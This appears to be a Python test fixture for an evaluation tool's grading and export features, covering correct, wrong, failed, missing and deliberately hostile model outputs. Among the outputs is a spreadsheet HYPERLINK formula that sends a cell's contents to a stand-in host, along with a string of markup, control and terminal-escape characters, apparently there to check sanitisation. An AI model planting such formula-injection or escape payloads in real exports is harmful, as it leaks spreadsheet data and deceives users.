"""A run with an answer of every kind, graded: right, wrong, ungraded, failed, missing, with a thought, hostile."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from graders.exact import Exact
from hybrid.grading.grade_file import grade_file
from hybrid.outputs import grades_of, write_outputs
from hybrid.records import Failure, Output
from tests.support.in_process import Hybrid

FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"open")'
HOSTILE = "<b>&\u202e\x1b[2J\r\n\x00'\"]]>\ufffe\rx"
RUN = {"id": "prompts-0123456789ab", "pipeline": "prompts", "settings": {"seed": 1}, "about": {"grader": "exact"}}
MODELS = [{"name": "tiny", "digest": "d" * 64, "about": {"engine": "scripted"}}]


def said(number: int, text: str | None, reference: object = "yes", **more: object) -> Output:
    """The output of the item `number`: four tasks, questions of two samples each."""
    pair, sample = divmod(number, 2)
    error = Failure("too-long", "no room for \x1b[2J") if text is None else None
    task = f"t{pair // 2}"
    how = {"finish": "stop", "tokens": (10 + number, number), **more}
    return Output(f"{number:064x}", task, f"{task}/{pair % 2}", {"arm": "a"}, sample, text, error, reference, **how)  # type: ignore[arg-type]


OUTPUTS = [
    said(0, "yes"),
    said(1, "no", thought="<think>perhaps</think>"),
    said(2, FORMULA, reference=["=1", FORMULA]),
    said(3, None, reference=["=1", FORMULA]),
    said(4, HOSTILE, reference=None),
    said(5, "", reference=None, finish="length"),
    said(6, None, reference={"a": 1}),
    said(7, None, reference={"a": 1}),
    said(8, "'quoted", reference="'quoted"),
    said(9, "yes\nyes", reference="'quoted"),
]
"""Scores by question: 0.5, 1 (its other output failed), none (no reference), none (both failed), 0.5."""


def graded_run(folder: Path, outputs: list[Output] = OUTPUTS, *, grade: bool = True) -> Path:
    """outputs.json of the run in `folder`, with grades.exact.json beside it."""
    path = folder / "outputs.json"
    write_outputs(path, RUN, MODELS, {task: {} for task in {one.task for one in outputs}}, outputs)
    if grade:
        grade_file(path, Exact(), "exact", grades_of(path, "exact"))
    return path


def exported(hybrid: Hybrid, source: object, name: str, *more: object, code: int = 0) -> Path:
    """The path that `hybrid export` printed."""
    done = hybrid("export", source, "--to", name, *more)
    assert done.code == code, done.stderr
    return Path(done.stdout.strip())


def json_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]
